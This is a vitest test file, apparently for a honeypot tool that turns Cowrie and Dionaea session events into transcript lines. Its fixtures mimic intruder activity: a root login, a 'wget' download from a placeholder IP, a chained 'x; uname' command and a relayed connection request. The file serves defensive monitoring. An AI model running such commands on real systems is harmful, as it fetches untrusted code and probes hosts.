import {expect, it} from "vitest";
import type {LineFinding, SessionEvent} from "../../../src/components/sessions/session-evidence.js";
import {transcriptOf} from "../../../src/components/sessions/transcript-lines.js";

let next = 0;

function event(event_type: string, at: number, more: Partial<SessionEvent> = {}): SessionEvent {
  return {
    event_id: `e${next++}`,
    event_time: new Date(1000 + at),
    event_type,
    severity: "none",
    username: null,
    destination_ip: null,
    destination_port: null,
    duration: null,
    password: null,
    message: null,
    command: null,
    payload: null,
    http_url: null,
    file_name: null,
    file_hash: null,
    hassh: null,
    ...more
  };
}

const finding = (event_id: string, rule: string, severity: LineFinding["severity"]): LineFinding => ({
  event_id,
  detector: "payload",
  rule,
  title: rule,
  severity,
  excerpt: null
});

const textOf = (events: readonly SessionEvent[]) =>
  transcriptOf(events, []).map(({label, parts}) => `${label} ${parts.map(({text}) => text).join("")}`);

it("a transcript tells logins, commands, files and forwarded connections, each with its offset", () => {
  const events = [
    event("cowrie.session.connect", 0, {destination_port: 22}),
    event("cowrie.login.success", 1500, {username: "root", password: "secret"}),
    event("cowrie.command.input", 2000, {command: "wget http://192.0.2.1/x"}),
    event("cowrie.session.file_download", 2500, {
      http_url: "http://192.0.2.1/x",
      file_name: "dl/abc",
      file_hash: "abc"
    }),
    event("cowrie.direct-tcpip.request", 3000, {destination_ip: "192.0.2.9", destination_port: 25}),
    event("dionaea.sip", 3500, {command: "OPTIONS", message: "OPTIONS sip:100@192.0.2.1"})
  ];
  expect(textOf(events)).toEqual([
    "connected to port 22",
    "let in root with secret",
    "typed wget http://192.0.2.1/x",
    "file from http://192.0.2.1/x, hash abc",
    "asked to reach 192.0.2.9 port 25",
    "sip OPTIONS – OPTIONS sip:100@192.0.2.1"
  ]);
  const lines = transcriptOf(events, []);
  expect(lines.map(({offset}) => offset)).toEqual([0, 1500, 2000, 2500, 3000, 3500]);
  expect(lines[1]?.parts.filter(({kind}) => kind === "secret")).toEqual([{kind: "secret", text: "secret"}]);
});

it("whether the honeypot knew a command stands at the command, with what was found in either", () => {
  const events = [
    event("cowrie.command.input", 0, {command: "x; uname"}),
    event("cowrie.command.failed", 0, {command: "x"}),
    event("cowrie.command.success", 0, {command: "uname"}),
    event("cowrie.command.input", 5, {command: "y"}),
    event("cowrie.command.failed", 5, {command: "y"})
  ];
  expect(textOf(events)).toEqual([
    "typed x; uname – the honeypot did not know x",
    "typed y – the honeypot did not know it"
  ]);
  const [input, failed, success] = events.map(({event_id}) => event_id);
  const [line] = transcriptOf(events, [
    finding(input ?? "", "a", "low"),
    finding(failed ?? "", "a", "low"),
    finding(success ?? "", "b", "medium")
  ]);
  expect(line?.findings.map(({rule, severity}) => [rule, severity])).toEqual([
    ["b", "medium"],
    ["a", "low"]
  ]);
});

it("an answer without its command stands by itself", () => {
  expect(textOf([event("cowrie.command.failed", 0, {command: "z"})])).toEqual(["typed z"]);
});

it("a login without user name or password says so", () => {
  expect(textOf([event("cowrie.login.failed", 0, {password: ""}), event("dionaea.login", 1)])).toEqual([
    "refused no user name with an empty password",
    "tried no user name with no password logged"
  ]);
});

it("an empty session has no lines", () => {
  expect(transcriptOf([], [])).toEqual([]);
});
